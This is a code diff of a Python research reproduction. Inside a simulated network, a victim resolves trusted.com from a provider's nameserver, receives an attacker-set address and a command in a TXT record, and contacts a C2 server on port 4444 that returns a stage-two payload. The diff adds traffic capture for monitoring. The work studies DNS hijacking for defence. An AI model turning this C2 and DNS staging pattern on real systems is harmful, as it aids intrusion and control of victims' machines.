@@ -19,7 +19,7 @@ of trusted.com still returns the legitimate address.
 
 from repro.dns import Message, RecursiveResolver, RRType
 from repro.hosting import DnsRoot, make_cloudflare, make_godaddy
-from repro.net import PrefixPlanner, SimulatedInternet
+from repro.net import PrefixPlanner, SimulatedInternet, TrafficCapture
 
 
 def main() -> None:
@@ -62,17 +62,23 @@ def main() -> None:
     # ③ Retrieval: a direct query to the provider's nameserver.
     victim_ip = "192.0.2.50"
     network.register_stub(victim_ip)
-    response = network.query_dns(
-        victim_ip,
-        ur_nameserver,
-        Message.make_query("trusted.com", RRType.A, recursion_desired=False),
-    )
+    monitor = TrafficCapture()  # a tap on the victim's traffic
+    with network.capturing(monitor):
+        response = network.query_dns(
+            victim_ip,
+            ur_nameserver,
+            Message.make_query(
+                "trusted.com", RRType.A, recursion_desired=False
+            ),
+        )
+        txt_response = network.query_dns(
+            victim_ip,
+            ur_nameserver,
+            Message.make_query(
+                "trusted.com", RRType.TXT, recursion_desired=False
+            ),
+        )
     retrieved = response.answers[0].rdata.address
-    txt_response = network.query_dns(
-        victim_ip,
-        ur_nameserver,
-        Message.make_query("trusted.com", RRType.TXT, recursion_desired=False),
-    )
     command = txt_response.answers[0].rdata.value
     print(f"③ UR answer: trusted.com A {retrieved}, TXT {command!r}")
 
@@ -93,13 +99,14 @@ def main() -> None:
             return b"stage2-payload"
 
     network.register_tcp_host(c2_address, C2())
-    reply = network.connect_tcp(victim_ip, retrieved, 4444, b"hello-c2")
+    with network.capturing(monitor):
+        reply = network.connect_tcp(victim_ip, retrieved, 4444, b"hello-c2")
     print(f"⑤ victim connected to C2 {retrieved}:4444 -> {reply!r}")
 
     print(
-        "\ncaptured flows (what a network monitor would see):"
+        "\ncaptured flows (what a monitor on the victim's link would see):"
     )
-    for flow in network.capture.flows[-4:]:
+    for flow in monitor:
         print("  " + flow.describe())
 
 
